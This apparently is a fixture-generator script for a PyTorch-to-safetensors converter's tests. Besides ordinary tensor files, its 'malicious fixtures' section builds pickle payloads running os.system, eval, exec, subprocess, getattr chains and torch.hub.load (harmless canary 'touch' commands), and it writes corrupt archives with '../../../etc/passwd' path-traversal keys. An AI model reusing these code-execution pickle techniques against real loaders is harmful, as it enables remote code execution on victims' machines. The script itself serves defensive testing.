        "model": model.state_dict(),
        "optimizer": adam.state_dict(),
        "epoch": 3,
        "list": [torch.randn(2, generator=g), torch.arange(3)],
        "int_keys": {7: torch.randn(2, 2, generator=g)},
        "note": "text",
        "best": 0.5,
    }
    p = out("training_checkpoint.pt")
    torch.save(ckpt, p)
    loaded = tload(p, weights_only=True)
    t_orig, _ = flatten(ckpt)
    t_load, others = flatten(loaded)
    assert_same_dicts(t_orig, t_load, p.name)
    assert "epoch" in others and "note" in others and "best" in others
    assert "optimizer.state.0.exp_avg" in t_load and "int_keys.7" in t_load
    add("training_checkpoint.pt", "zip",
        "training checkpoint: model + Adam state + scalars + list + int-keyed dict",
        t_load,
        "`torch.save({'model': state_dict, 'optimizer': adam.state_dict() "
        "(after one real step; `step` is a 0-dim float32 tensor), 'epoch': 3, "
        "'list': [t0, t1], 'int_keys': {7: t7}, 'note': 'text', 'best': "
        "0.5})` with `TrainNet` = Linear(4,3) `fc` + Linear(3,2) `out`. With no "
        "key every tensor is named by its full dotted path (`model.fc.weight`, "
        "`optimizer.state.0.exp_avg`, `list.0`, `int_keys.7`). `dropped` lists "
        "`epoch`, `note`, `best` -- a subset: the optimizer's `param_groups` "
        "scalars are also non-tensors and are not listed, so the test should "
        "check containment, not equality.",
        dropped=["epoch", "note", "best"])
    t_model, _ = flatten(loaded["model"])
    add("training_checkpoint.pt#model", "zip",
        "same file converted with --key model", t_model,
        "Second expected.json entry for `training_checkpoint.pt` (the test "
        "strips `#model` to find the file) with `key: \"model\"`: only the "
        "`model` sub-dict, tensor names without the `model.` prefix.",
        key="model")


def make_dtypes():
    g = gen(31)

    def randbits(dtype, n):
        es = torch.empty((), dtype=dtype).element_size()
        return torch.randint(0, 256, (n * es,), dtype=torch.uint8, generator=g).view(dtype)

    obj = {}
    for dt in [torch.float64, torch.float32, torch.float16, torch.bfloat16]:
        vals = torch.cat([(torch.randn(16, generator=g) * 100).to(dt), randbits(dt, 16)])
        obj[str(dt).replace("torch.", "")] = vals.view(4, 8)
    info = {torch.int64: torch.iinfo(torch.int64), torch.int32: torch.iinfo(torch.int32),
            torch.int16: torch.iinfo(torch.int16)}
    for dt in [torch.int64, torch.int32, torch.int16]:
        i = info[dt]
        vals = torch.cat([torch.tensor([i.min, i.max, -1, 0, 1], dtype=dt), randbits(dt, 27)])
        obj[str(dt).replace("torch.", "")] = vals.view(4, 8)
    obj["int8"] = torch.arange(-128, 128, dtype=torch.int16).to(torch.int8).view(16, 16)
    obj["uint8"] = torch.arange(256, dtype=torch.int16).to(torch.uint8).view(16, 16)
    obj["bool"] = torch.randint(0, 2, (3, 5), generator=g).bool()
    for dt in [torch.float8_e4m3fn, torch.float8_e5m2, torch.float8_e4m3fnuz,
               torch.float8_e5m2fnuz, torch.float8_e8m0fnu]:
        # every bit pattern once
        obj[str(dt).replace("torch.", "")] = torch.arange(256, dtype=torch.int16).to(torch.uint8).view(dt).view(16, 16)
    for dt in [torch.uint16, torch.uint32, torch.uint64]:
        obj[str(dt).replace("torch.", "")] = randbits(dt, 12).view(3, 4)
    obj["complex64"] = torch.randn(2, 3, generator=g, dtype=torch.complex64)
    obj["scalar_0d"] = torch.tensor(-2.5, dtype=torch.float32)
    obj["empty"] = torch.empty(0, 3)
    p = out("dtypes.pt")
    torch.save(obj, p)
    loaded = tload(p, weights_only=True)
    assert_same_dicts(obj, loaded, p.name)
    assert {t.dtype for t in loaded.values()} == set(ST_DTYPE)
    add("dtypes.pt", "zip", "one tensor per supported dtype + 0-dim + empty", loaded,
        "One tensor per dtype, named after the torch dtype: float64/32/16 and "
        "bfloat16 (4x8: 16 scaled normal values incl. negatives, then 16 "
        "elements of random bits -- may include NaN/inf/subnormals), "
        "int64/32/16 (min, max, -1, 0, 1 then random bits), int8/uint8 (all 256 "
        "values, 16x16), bool (3x5), each float8 type (float8_e4m3fn, "
        "float8_e5m2, float8_e4m3fnuz, float8_e5m2fnuz, float8_e8m0fnu: all 256 "
        "bit patterns, 16x16), uint16/32/64 (3x4 random bits), complex64 (2x3), "
        "plus `scalar_0d` (0-dim float32 -2.5) and `empty` (float32 [0, 3], "
        "sha256 of b\"\"). Loads with weights_only=True.")


def make_views():
    g = gen(41)
    base = torch.randn(3, 4, generator=g)
    col = torch.randn(1, 4, generator=g)
    long = torch.randn(10, generator=g)
    m = torch.randn(3, 5, generator=g)
    shared = torch.randn(4, generator=g)
    ov = torch.arange(12, dtype=torch.float32) * 1.5
    c = torch.randn(4, generator=g, dtype=torch.complex64)
    x = torch.randn(5, generator=g)
    cl = torch.randn(1, 3, 2, 2, generator=g).contiguous(memory_format=torch.channels_last)
    obj = {
        "transpose": base.t(),
        "expand": col.t().expand(4, 3),             # stride 0 on dim 1
        "slice": long[3:8],                         # storage offset 3
        "narrow": m.narrow(1, 2, 1),                # middle column, strides (5,1), offset 2
        "tied_a": shared,
        "tied_b": shared,                           # the very same tensor
        "overlap_a": ov[0:8],
        "overlap_b": ov[4:12].view(2, 4),           # overlaps overlap_a
        "conj": c.conj(),                           # conj bit set
        "channels_last": cl,
    }
    has_neg = hasattr(torch, "_neg_view")
    if has_neg:
        obj["neg"] = torch._neg_view(x)
    assert obj["expand"].stride() == (1, 0)
    assert not obj["narrow"].is_contiguous()
    p = out("views.pt")
    torch.save(obj, p)
    loaded = tload(p, weights_only=True)
    assert loaded["conj"].is_conj()
    if has_neg:
        assert loaded["neg"].is_neg()
    assert loaded["tied_a"].data_ptr() == loaded["tied_b"].data_ptr()
    assert loaded["overlap_a"].untyped_storage().data_ptr() == loaded["overlap_b"].untyped_storage().data_ptr()
    assert loaded["channels_last"].is_contiguous(memory_format=torch.channels_last)
    assert_same_dicts(obj, loaded, p.name)
    add("views.pt", "zip", "views: transpose, stride-0 expand, offsets, narrow, tied, overlapping, conj/neg bits, channels_last",
        loaded,
        "Views whose logical values must be materialised: `transpose` (3x4 "
        "transposed), `expand` (4x3 with stride 0 on dim 1), `slice` (storage "
        "offset 3), `narrow` (middle column of a 3x5: shape [3,1], strides "
        "(5,1), offset 2), `tied_a`/`tied_b` (the same tensor object, one "
        "storage), `overlap_a`/`overlap_b` (elements 0..7 and 4..11 of one "
        "storage), `conj` (`c.conj()` of complex64: saved with metadata "
        "`{'conj': True}` as 7th `_rebuild_tensor_v2` argument -- expected "
        "values are the conjugated ones), `neg` (`torch._neg_view`: metadata "
        "`{'neg': True}`, values are negated) and `channels_last` (1x3x2x2 with "
        "NHWC strides). torch saves whole storages, so the expected values come "
        "from applying size/stride/offset and the conj/neg bits.")


def make_unsupported():
    g = gen(51)
    obj = {
        "ok": torch.randn(3, generator=g),
        "q": torch.quantize_per_tensor(torch.randn(4, generator=g), 0.1, 0, torch.qint8),
        "sparse": torch.randn(3, 3, generator=g).relu().to_sparse(),
        "nested": torch.nested.nested_tensor([torch.randn(2, generator=g), torch.randn(3, generator=g)]),
        "c128": torch.randn(2, generator=g, dtype=torch.complex128),
    }
    p = out("unsupported.pt")
    torch.save(obj, p)
    loaded = tload(p)
    assert same(obj["ok"], loaded["ok"])
    assert loaded["q"].is_quantized and loaded["sparse"].is_sparse and loaded["nested"].is_nested
    add("unsupported.pt", "zip", "tensors safetensors cannot hold next to a normal one",
        {"ok": loaded["ok"]},
        "A dict with a normal float32 tensor `ok` plus tensors that cannot be "
        "stored in safetensors: `q` (quantize_per_tensor qint8 -> "
        "`torch._utils._rebuild_qtensor`), `sparse` (COO -> "
        "`_rebuild_sparse_tensor`), `nested` (torch.nested.nested_tensor -> "
        "`_rebuild_nested_tensor`) and `c128` (complex128, no safetensors "
        "dtype). Only `ok` is expected; the other four names are listed in "
        "`unsupported`.",
        unsupported=["q", "sparse", "nested", "c128"])


def make_hf_sharded():
    from transformers import BertConfig, BertModel

    torch.manual_seed(61)
    cfg = BertConfig(vocab_size=30, hidden_size=8, num_hidden_layers=1, num_attention_heads=2,
                     intermediate_size=16, max_position_embeddings=16, type_vocab_size=2)
    model = BertModel(cfg)
    sd = model.state_dict()
    d = OUT / "hf_sharded"
    if d.exists():
        shutil.rmtree(d)
    d.mkdir(parents=True)
    # transformers 5.x always writes safetensors from save_pretrained (the
    # safe_serialization=False switch is gone), so the .bin shards are written
    # here exactly the way transformers 4.x did: torch.save of each shard dict.
    names = list(sd)
    total = sum(t.numel() * t.element_size() for t in sd.values())
    shards, acc, cur = [], 0, {}
    for n in names:
        cur[n] = sd[n]
        acc += sd[n].numel() * sd[n].element_size()
        if acc >= total / 2 and len(shards) == 0:
            shards.append(cur)
            cur = {}
    shards.append(cur)
    assert len(shards) == 2 and all(shards)
    weight_map = {}
    for i, shard in enumerate(shards, 1):
        fname = f"pytorch_model-{i:05d}-of-00002.bin"
        torch.save(shard, d / fname)
        for n in shard:
            weight_map[n] = fname
    (d / "pytorch_model.bin.index.json").write_text(
        json.dumps({"metadata": {"total_size": total}, "weight_map": weight_map}, indent=2) + "\n")
    cfg_d = cfg.to_dict()
    cfg_d.pop("transformers_version", None)
    cfg_d["architectures"] = ["BertModel"]
    (d / "config.json").write_text(json.dumps(cfg_d, indent=2, sort_keys=True) + "\n")
    loaded = {}
    for i in (1, 2):
        loaded.update(tload(d / f"pytorch_model-{i:05d}-of-00002.bin", weights_only=True))
    loaded = {n: loaded[n] for n in names}
    assert_same_dicts(dict(sd), loaded, "hf_sharded")
    add("hf_sharded", "hf-folder", "HF sharded pytorch_model-*.bin folder (tiny BERT)", loaded,
        "A folder as transformers 4.x `save_pretrained(safe_serialization=False, "
        "max_shard_size=...)` wrote it: `pytorch_model-00001-of-00002.bin`, "
        "`pytorch_model-00002-of-00002.bin` (each a plain torch.save'd dict), "
        "`pytorch_model.bin.index.json` = {\"metadata\": {\"total_size\": bytes}, "
        "\"weight_map\": {name: shard file}} and a `config.json`. The model is a "
        "tiny BertModel (vocab 30, hidden 8, 1 layer, 2 heads, intermediate 16, "
        "16 positions), seed 61; shards split in state_dict order at half the "
        "bytes. transformers 5.x's `save_pretrained` ignores "
        "`safe_serialization=False` and writes safetensors, so the script "
        "writes the shards and index itself with torch.save.")


def make_safetensors():
    from safetensors.torch import load_file, save_file

    g = gen(71)
    obj = {
        "embed.weight": torch.randn(4, 3, generator=g),
        "norm.bias": torch.randn(3, generator=g).to(torch.bfloat16),
        "positions": torch.arange(5, dtype=torch.int64),
    }
    p = out("input.safetensors")
    save_file(obj, str(p), metadata={"format": "pt"})
    loaded = load_file(str(p))
    loaded = {k: loaded[k] for k in obj}
    assert_same_dicts(obj, loaded, p.name)
    add("input.safetensors", "safetensors", "already-safetensors input (F32, BF16, I64)",
        loaded,
        "Written with `safetensors.torch.save_file` (metadata {format: pt}): "
        "float32 `embed.weight` 4x3, bfloat16 `norm.bias` [3], int64 `positions` "
        "[5]. The converter should pass it through (or re-emit it) unchanged.")


def f64_from_bits(bits):
    return np.array(bits, dtype=np.uint64).view(np.float64)


def make_casts():
    inf = float("inf")
    common = [
        0.0, -0.0, inf, -inf, 1.0, -1.0, 1.5, -2.75, 0.1, -0.1, 1 / 3, math.pi,
        2.0**-149, -(2.0**-149), 2.0**-126, (1 - 2.0**-23) * 2.0**-126,
        2.0**-24, 2.0**-25, 3 * 2.0**-25, 2.0**-25 + 2.0**-40, 1023 * 2.0**-24, 2.0**-14, -(2.0**-24),
        2.0**-133, 2.0**-134, 3 * 2.0**-134,
        1 + 2.0**-11, 1 + 3 * 2.0**-11, 1 + 2.0**-11 + 2.0**-20,
        1 + 2.0**-8, 1 + 3 * 2.0**-8, 1 + 2.0**-8 + 2.0**-20,
        65504.0, 65519.0, 65520.0, 65536.0, 1e5, -1e5,
        (2 - 2.0**-7) * 2.0**127,   # bf16 max
        (2 - 2.0**-8) * 2.0**127,   # halfway bf16 max -> 2**128 (rounds to inf)
        (2 - 2.0**-23) * 2.0**127,  # f32 max
    ]
    f64_only = [
        5e-324, -5e-324, 2.225073858507201e-308,
        2.0**-150, 3 * 2.0**-150,  # f32 subnormal ties
        1 + 2.0**-11 + 2.0**-40,   # double rounding f64->f32->f16 hits the tie
        1 + 2.0**-8 + 2.0**-40,    # same for bf16
        2.0**-25 + 2.0**-60,
        1 + 2.0**-24, 1 + 3 * 2.0**-24, 1 + 2.0**-24 + 2.0**-50,
        (2 - 2.0**-24) * 2.0**127, 1e39, 1e300, -1e300, 1.7976931348623157e308,
    ]
    f64_nans = [0x7FF8000000000000, 0xFFF8000000000000, 0x7FF0000000000001, 0x7FF4000000000000,
                0x7FFFFFFFFFFFFFFF, 0xFFF0000000000001, 0x7FF8000000000ABC, 0x7FF80000E0000000,
                0x7FF0000020000000]
    f64 = np.concatenate([np.array(common + f64_only, dtype=np.float64), f64_from_bits(f64_nans)])

    f32_vals = np.array(common, dtype=np.float64).astype(np.float32)
    inexact = {0.1, -0.1, 1 / 3, math.pi}
    assert all(float(a) == b for a, b in zip(f32_vals, common) if b not in inexact)
    f32_nans = np.array([0x7FC00000, 0xFFC00000, 0x7F800001, 0x7FA00000, 0x7FFFFFFF, 0xFF800001,
                         0x7FC00ABC, 0x7FC10000, 0x7F810000, 0x7F7FFFFF, 0xFF7FFFFF, 0x7F7F8000,
                         0x7F7F7FFF, 0x00000001, 0x007FFFFF, 0x80000001, 0x3F801000, 0x3F803000,
                         0x3F800800, 0x3F801800, 0x3F808000, 0x3F818000, 0x477FF000, 0x477FEFFF],
                        dtype=np.uint32).view(np.float32)
    f32 = np.concatenate([f32_vals, f32_nans])

    f16_bits = [0x0000, 0x8000, 0x7C00, 0xFC00, 0x7E00, 0xFE00, 0x7C01, 0x7D00, 0x7FFF, 0xFC01,
                0x7E01, 0x0001, 0x03FF, 0x8001, 0x83FF, 0x0400, 0x7BFF, 0xFBFF, 0x3C00, 0x3C01,
                0x3C02, 0x3C04, 0x3C0C, 0x3C06, 0x3555, 0xC000, 0x0003, 0x0005]
    bf16_bits = [0x0000, 0x8000, 0x7F80, 0xFF80, 0x7FC0, 0xFFC0, 0x7F81, 0x7FA0, 0x7FFF, 0xFF81,
                 0x0001, 0x007F, 0x8001, 0x0080, 0x7F7F, 0xFF7F, 0x3F80, 0x3F81, 0x477F, 0x4780,
                 0xC780, 0x3380, 0x3300, 0x3340, 0x33C0, 0x3290, 0x387F, 0x3880, 0x3E2B, 0xC049]
    obj = {
        "f64": torch.from_numpy(f64.copy()),
        "f32": torch.from_numpy(f32.copy()),
        "f16": torch.tensor(f16_bits, dtype=torch.int32).to(torch.int16).view(torch.float16),
        "bf16": torch.tensor(bf16_bits, dtype=torch.int32).to(torch.int16).view(torch.bfloat16),
    }
    p = out("casts.pt")
    torch.save(obj, p)
    loaded = tload(p, weights_only=True)
    assert_same_dicts(obj, loaded, p.name)
    targets = {"F32": torch.float32, "F16": torch.float16, "BF16": torch.bfloat16}
    casts = {}
    for name, t in loaded.items():
        casts[name] = {}
        for tn, dt in targets.items():
            b = tensor_bytes(t.to(dt))
            casts[name][tn] = {"sha256": hashlib.sha256(b).hexdigest(), "hex": b.hex()}
    out("casts_expected.json").write_text(json.dumps(casts, indent=1) + "\n")
    # Summarise what torch did with the NaN inputs (differs between torch's
    # scalar and vectorised CPU kernels, see README).
    nan_lines = []
    for name, t in loaded.items():
        w = t.element_size()
        isnan = torch.isnan(t.to(torch.float64)).tolist()
        src_bits = [int.from_bytes(tensor_bytes(t)[i * w:(i + 1) * w], "little")
                    for i in range(t.numel())]
        for tn, dt in targets.items():
            ow = torch.empty((), dtype=dt).element_size()
            b = bytes.fromhex(casts[name][tn]["hex"])
            pairs = [f"{src_bits[i]:0{2 * w}x}->{int.from_bytes(b[i * ow:(i + 1) * ow], 'little'):0{2 * ow}x}"
                     for i in range(t.numel()) if isnan[i]]
            nan_lines.append(f"`{name}`->{tn}: " + ", ".join(pairs))
    add("casts.pt", "zip", "special float values for cast tests (see casts_expected.json)", loaded,
        "Four 1-D source tensors `f64`, `f32`, `f16`, `bf16` full of cast edge "
        "cases: NaNs with different signs and payloads (quiet and signalling), "
        "+-inf, +-0, subnormals of every type (minimum and maximum subnormals, "
        "half the minimum, 1.5x the minimum), values exactly halfway between two "
        "f16 / bf16 / f32 neighbours (ties-to-even) and just above halfway, f64 "
        "values where rounding via f32 first gives a different result, the "
        "largest finite f16/bf16/f32 values and values that overflow them "
        "(65519, 65520, 65536, 1e5, (2-2^-8)*2^127, 1e39, 1e300). "
        "`casts_expected.json` = {name: {F32|F16|BF16: {sha256, hex}}} of "
        "torch's own CPU `.to(dtype)` result bytes (identity casts included). "
        "Observed torch behaviour the converter should know about: (1) "
        "f64->f16 and f64->bf16 round via f32 (double rounding): f64 "
        "1+2^-11+2^-40 becomes f16 1.0 (0x3c00; correctly rounded would be "
        "0x3c01), 1+2^-8+2^-40 becomes bf16 0x3f80, 2^-25+2^-60 becomes f16 "
        "+0. (2) NaN bit patterns are NOT portable: torch's vectorised "
        "f32->bf16 kernel (AVX2/AVX-512) writes every NaN as 0xffff, its scalar "
        "path writes 0x7fc0, and which path an element takes depends on the "
        "source dtype and even on the element's position (vector chunks vs. "
        "the scalar tail); f32->f16 (and f64->f16, via f32) uses the hardware "
        "converter, which keeps the sign and the top payload bits and sets the "
        "quiet bit, while f16->bf16 writes 0x7fc0 for every NaN. Tests should therefore compare non-NaN elements bit "
        "for bit and NaN elements only by being NaN. NaN mapping observed when "
        f"these files were generated (torch CPU capability "
        f"{torch.backends.cpu.get_cpu_capability()}; source bits -> result "
        "bits): " + "; ".join(nan_lines) + ".")


# --------------------------------------------------------------------------
# malicious fixtures
# --------------------------------------------------------------------------


def canary_path(tag: str) -> str:
    return f"/tmp/torchless-canary-{tag}"


def py_touch(path: str) -> str:
    return f"open({path!r}, 'w').close()"


def evil(name: str, obj, refuse: str, readme: str, *, protocol: int = 2, canary=None,
         legacy: bool = False, fire: bool = True):
    p = out(name)
    if legacy:
        torch.save(obj, p, _use_new_zipfile_serialization=False, pickle_protocol=protocol)
    else:
        torch.save(obj, p, pickle_protocol=protocol)
    finish_evil(p, refuse, readme, canary=canary, legacy=legacy, fire=fire)


def finish_evil(p: Path, refuse: str, readme: str, *, canary=None, legacy=False, fire=True):
    if legacy:
        got = first_unsafe_global(p.read_bytes(), n_pickles=4)
    else:
        entries = dict(zip_entries(p))
        root = zip_root(list(entries.items()))
        got = first_unsafe_global(entries[f"{root}/data.pkl"])
    assert got == refuse, (p.name, got, refuse)
    if fire:
        assert canary is not None
        prove_canary(p, canary)
        proof = ("The script proves it: `torch.load(weights_only=False)` in a "
                 f"subprocess creates `{canary}`.")
    else:
        proof = "Refusal-only fixture: the payload is never executed (canary null)."
    add(p.name, "legacy" if legacy else "zip", f"malicious: calls {refuse}", {},
        f"{readme} First non-tensor global the unpickler meets: `{refuse}`. {proof}",
        refuse=refuse, canary=canary if fire else None)


def make_evil():
    t = torch.arange(4, dtype=torch.float32)

    c = canary_path("os_system")
    evil("evil_os_system.pt", {"weight": t, "payload": Call(os.system, f"touch {c}")},
         "posix.system",
         "`torch.save({'weight': t, 'payload': X})` where `X.__reduce__` returns "
         "`(os.system, ('touch ...',))` (default protocol 2). Pickle records "
         "os.system under its real module, `posix system`.", canary=c)

    c = canary_path("eval")
    evil("evil_eval.pt", {"weight": t, "payload": Call(builtins.eval, py_touch(c))},
         "builtins.eval",
         "`builtins.eval(\"open(canary, 'w').close()\")` via `__reduce__`, saved "
         "with `pickle_protocol=4` (STACK_GLOBAL 'builtins' 'eval').", protocol=4, canary=c)

    c = canary_path("eval_py2")
    evil("evil_eval_py2.pt", {"weight": t, "payload": Call(builtins.eval, py_touch(c))},
         "__builtin__.eval",
         "Extra fixture: the same eval payload saved with torch.save's default "
         "protocol 2, where pickle's fix_imports writes the Python 2 name "
         "`__builtin__ eval` (Python's unpickler maps it back to builtins.eval).",
         protocol=2, canary=c)

    c = canary_path("exec")
    evil("evil_exec.pt", {"weight": t, "payload": Call(builtins.exec, py_touch(c))},
         "builtins.exec",
         "`builtins.exec(\"open(canary, 'w').close()\")` via `__reduce__`, protocol 4.",
         protocol=4, canary=c)

    c = canary_path("getattr")
    tl_globals = Call(builtins.getattr, torch.load, "__globals__")
    os_mod = Call(Call(builtins.getattr, tl_globals, "get"), "os")
    evil("evil_getattr.pt",
         {"weight": t, "payload": Call(Call(builtins.getattr, os_mod, "system"), f"touch {c}")},
         "builtins.getattr",
         "A pure getattr chain reaching os.system from an innocent-looking torch "
         "global: `getattr(getattr(getattr(torch.serialization.load, "
         "'__globals__'), 'get')('os'), 'system')('touch ...')` (protocol 4).",
         protocol=4, canary=c)

    c = canary_path("import")
    evil("evil_import.pt",
         {"hook": builtins.__import__, "weight": t,
          "payload": Call(Call(builtins.getattr, Call(builtins.__import__, "os"), "system"),
                          f"touch {c}")},
         "builtins.__import__",
         "`getattr(__import__('os'), 'system')('touch ...')`; the dict's first "
         "value `hook` is the bare `builtins.__import__` function so that it is "
         "the first global in the stream (protocol 4).", protocol=4, canary=c)

    c = canary_path("subprocess")
    evil("evil_subprocess.pt",
         {"weight": t, "payload": Call(subprocess.call, ["touch", c])},
         "subprocess.call",
         "`subprocess.call(['touch', canary])` via `__reduce__` (protocol 4).",
         protocol=4, canary=c)

    c = canary_path("runpy")
    evil("evil_runpy.pt",
         {"weight": t, "payload": Call(runpy._run_code, py_touch(c), {})},
         "runpy._run_code",
         "`runpy._run_code(\"open(canary, 'w').close()\", {})` -- runpy's "
         "internal helper exec()s a source string (protocol 4).", protocol=4, canary=c)

    c = canary_path("importlib")
    evil("evil_importlib.pt",
         {"hook": importlib.import_module, "weight": t,
          "payload": Call(Call(builtins.getattr, Call(importlib.import_module, "os"), "system"),
                          f"touch {c}")},
         "importlib.import_module",
         "`getattr(importlib.import_module('os'), 'system')('touch ...')`; the "
         "bare `importlib.import_module` function is stored first under `hook` "
         "so it is the first global in the stream (protocol 4).", protocol=4, canary=c)

    c = canary_path("pickle_loads")
    inner = pickle.dumps(Call(os.system, f"touch {c}"), protocol=2)
    evil("evil_pickle_loads.pt", {"weight": t, "payload": Call(pickle.loads, inner)},
         "_pickle.loads",
         "`pickle.loads(inner)` (pickle.loads is the C function `_pickle.loads`, "
         "and that is the name pickle writes) where `inner` (a bytes constant) is a protocol-2 "
         "pickle calling `posix.system('touch ...')` (protocol 4 outside).",
         protocol=4, canary=c)

    c = canary_path("torch_load")
    ibuf = io.BytesIO()
    torch.save({"payload": Call(os.system, f"touch {c}")}, ibuf)
    evil("evil_torch_load.pt",
         {"weight": t,
          "payload": Call(torch.load, Call(io.BytesIO, ibuf.getvalue()), None,
                          Call(importlib.import_module, "pickle"))},
         "torch.serialization.load",
         "`torch.load(io.BytesIO(inner_zip), None, importlib.import_module("
         "'pickle'))`: passing an explicit `pickle_module` positionally makes "
         "torch default to weights_only=False, so the inner torch.save archive "
         "(stored as a bytes constant) runs its own `posix.system` payload "
         "(protocol 4).", protocol=4, canary=c)

    c = canary_path("shutil")
    evil("evil_shutil.pt",
         {"weight": t, "payload": Call(shutil.copyfile, "/dev/null", c)},
         "shutil.copyfile",
         "`shutil.copyfile('/dev/null', canary)` via `__reduce__` (protocol 4) -- "
         "file-system write without any shell.", protocol=4, canary=c)

    evil("evil_torch_hub.pt",
         {"weight": t, "payload": Call(torch.hub.load, "torchless-evil/repo", "model")},
         "torch.hub.load",
         "`torch.hub.load('torchless-evil/repo', 'model')` via `__reduce__` "
         "(protocol 4) -- would download and run a hubconf.py.", protocol=4, fire=False)

    # ---- hand-written protocol 0 INST
    c = canary_path("inst")
    pkl = (b"(dp0\nVweight_note\np1\nVno tensors here\np2\n"
           b"sVpayload\np3\n(Vtouch " + c.encode() + b"\np4\nios\nsystem\np5\ns.")
    assert pickletools.dis(io.BytesIO(pkl), out=io.StringIO()) is None
    p = out("evil_inst.pt")
    write_torch_zip(p, pkl)
    finish_evil(p, "os.system",
                "torch.save-shaped zip (written with torch's own PyTorchFileWriter) "
                "whose `data.pkl` is hand-written protocol-0 text: `(dp0 ... (Vtouch "
                "<canary> ios\\nsystem\\n s.` -- the INST opcode `i` looks up "
                "`os.system` and calls it with the items above the MARK.", canary=c)

    # ---- hand-written protocol 1 OBJ, next to a real tensor
    c = canary_path("obj")

    def bu(s: str) -> bytes:
        b = s.encode()
        return b"X" + struct.pack("<I", len(b)) + b

    pkl = (b"}q\x00(" + bu("weight")
           + b"ctorch._utils\n_rebuild_tensor_v2\nq\x01("
           + b"(" + bu("storage") + b"ctorch\nFloatStorage\nq\x02" + bu("0") + bu("cpu") + b"K\x04tQ"
           + b"K\x00(K\x04t(K\x01tI00\nccollections\nOrderedDict\nq\x03)RtR"
           + bu("payload") + b"(cposix\nsystem\nq\x04" + bu("touch " + c) + b"o"
           + b"u.")
    assert pickletools.dis(io.BytesIO(pkl), out=io.StringIO()) is None
    p = out("evil_obj.pt")
    write_torch_zip(p, pkl, [("0", tensor_bytes(t))])
    finish_evil(p, "posix.system",
                "torch.save-shaped zip whose `data.pkl` is hand-written protocol-1 "
                "binary pickle: a dict with a real float32 tensor `weight` (storage "
                "`data/0`) and `payload` built with MARK, GLOBAL `posix system`, the "
                "command string and the OBJ opcode `o`, which calls the class/callable "
                "with the remaining stack items.", canary=c)

    c = canary_path("legacy")
    evil("evil_legacy.pt", {"weight": t, "payload": Call(os.system, f"touch {c}")},
         "posix.system",
         "Legacy (non-zip) `torch.save(..., _use_new_zipfile_serialization=False)` "
         "stream with the os.system reduce in the main pickle.", legacy=True, canary=c)


# --------------------------------------------------------------------------
# corrupt / hostile fixtures
# --------------------------------------------------------------------------


def corrupt(name: str, fmt: str, desc: str, readme: str):
    p = OUT / name
    behaviour = torch_probe(p)
    TORCH_BEHAVIOUR[name] = behaviour
    add(name, fmt, desc, {}, f"{readme} torch.load(weights_only=False) {behaviour}.", refuse="")


def hostile_tensor_zip(name: str, ft: FakeTensor, storage_bytes: bytes, extra=()):
    t_ok = FakeTensor(StorageRef(torch.FloatStorage, "0", 4), 0, (4,), (1,))
    obj = {"ok": t_ok, "bad": ft}
    pkl = torch_like_pickle(obj)
    storages = [("0", tensor_bytes(torch.arange(4, dtype=torch.float32)))]
    if ft.storage.key != "0":
        storages.append((ft.storage.key, storage_bytes))
    write_torch_zip(out(name), pkl, storages, extra_records=extra)


def make_corrupt():
    src = (OUT / "zip_state_dict.pt").read_bytes()
    out("truncated_zip.pt").write_bytes(src[: len(src) // 2])
    corrupt("truncated_zip.pt", "zip", "first half of zip_state_dict.pt",
            "The first half (byte-wise) of `zip_state_dict.pt`: local headers "
            "present, central directory missing.")

    leg = (OUT / "legacy_stream.pt").read_bytes()
    _, _, _, storages = parse_legacy_stream(leg)
    cut = storages[0][2] + 8 + 6
    out("truncated_legacy.pt").write_bytes(leg[:cut])
    corrupt("truncated_legacy.pt", "legacy", "legacy stream cut inside the storage data",
            "`legacy_stream.pt` cut 6 bytes into the first storage's data "
            "(after its int64 element count).")

    entries = zip_entries(OUT / "zip_state_dict.pt")
    root = zip_root(entries)
    flipped = f"{root}/data/0"
    assert flipped in dict(entries)
    p = out("bad_crc.pt")
    # zipfile computes the CRC from the data, so write the good CRC by patching afterwards
    write_zip(p, [(n.replace(root, "bad_crc", 1), d) for n, d in entries])
    raw = bytearray(p.read_bytes())
    good = dict(entries)[flipped]
    with zipfile.ZipFile(p) as z:
        info = z.getinfo(flipped.replace(root, "bad_crc", 1))
        hdr = info.header_offset
    fn_len, ex_len = struct.unpack("<HH", raw[hdr + 26:hdr + 30])
    data_off = hdr + 30 + fn_len + ex_len
    assert raw[data_off:data_off + len(good)] == good
    raw[data_off + 1] ^= 0xFF
    p.write_bytes(bytes(raw))
    corrupt("bad_crc.pt", "zip", "one storage byte flipped, CRC32 left stale",
            "`zip_state_dict.pt` re-zipped (STORED) and then byte 1 of `data/0` "
            "(`fc.weight`) XOR-ed with 0xFF in place, so the stored CRC-32 no "
            "longer matches.")

    # short storage: declares 100 floats, record has 4
    hostile_tensor_zip("short_storage.pt",
                       FakeTensor(StorageRef(torch.FloatStorage, "1", 100), 0, (100,), (1,)),
                       tensor_bytes(torch.ones(4)))
    corrupt("short_storage.pt", "zip", "persistent id declares 100 floats, data/1 holds 4",
            "Hand-written `data.pkl` (pure-python pickler emitting torch's layout): "
            "`ok` (fine, 4 floats in `data/0`) and `bad` whose storage persistent id "
            "says FloatStorage numel 100 (400 bytes) while the `data/1` record has "
            "only 16 bytes.")

    hostile_tensor_zip("view_out_of_bounds.pt",
                       FakeTensor(StorageRef(torch.FloatStorage, "1", 6), 0, (4, 4), (4, 1)),
                       tensor_bytes(torch.ones(6)))
    corrupt("view_out_of_bounds.pt", "zip", "size/stride reach past the storage",
            "`bad` = storage of 6 floats (24 bytes, consistent with its record) "
            "viewed with size (4, 4), stride (4, 1): needs 16 elements.")

    for name, key, what in [("dotdot_key.pt", "../../../etc/passwd", "path traversal"),
                            ("absolute_key.pt", "/etc/passwd", "absolute path")]:
        hostile_tensor_zip(name, FakeTensor(StorageRef(torch.FloatStorage, key, 4), 0, (4,), (1,)),
                           tensor_bytes(torch.ones(4)))
        with zipfile.ZipFile(OUT / name) as z:
            assert any(n.endswith("data/" + key) for n in z.namelist())
        corrupt(name, "zip", f"storage key {key!r} ({what})",
                f"`bad`'s storage key is `{key}` ({what}). The archive really "
                f"contains an entry `<root>/data/{key}` (16 bytes) so a converter "
                "that only looks the key up in the zip would find it; keys must be "
                "validated (plain identifiers / digits) before use.")

    hostile_tensor_zip("shape_overflow.pt",
                       FakeTensor(StorageRef(torch.FloatStorage, "1", 4), 0, (2**62, 2**62), (2**62, 1)),
                       tensor_bytes(torch.ones(4)))
    corrupt("shape_overflow.pt", "zip", "size (2**62, 2**62): numel/byte size overflow u64",
            "`bad` has size (2**62, 2**62) and stride (2**62, 1) over a 4-float "
            "storage: the element count and byte extents overflow 64 bits.")

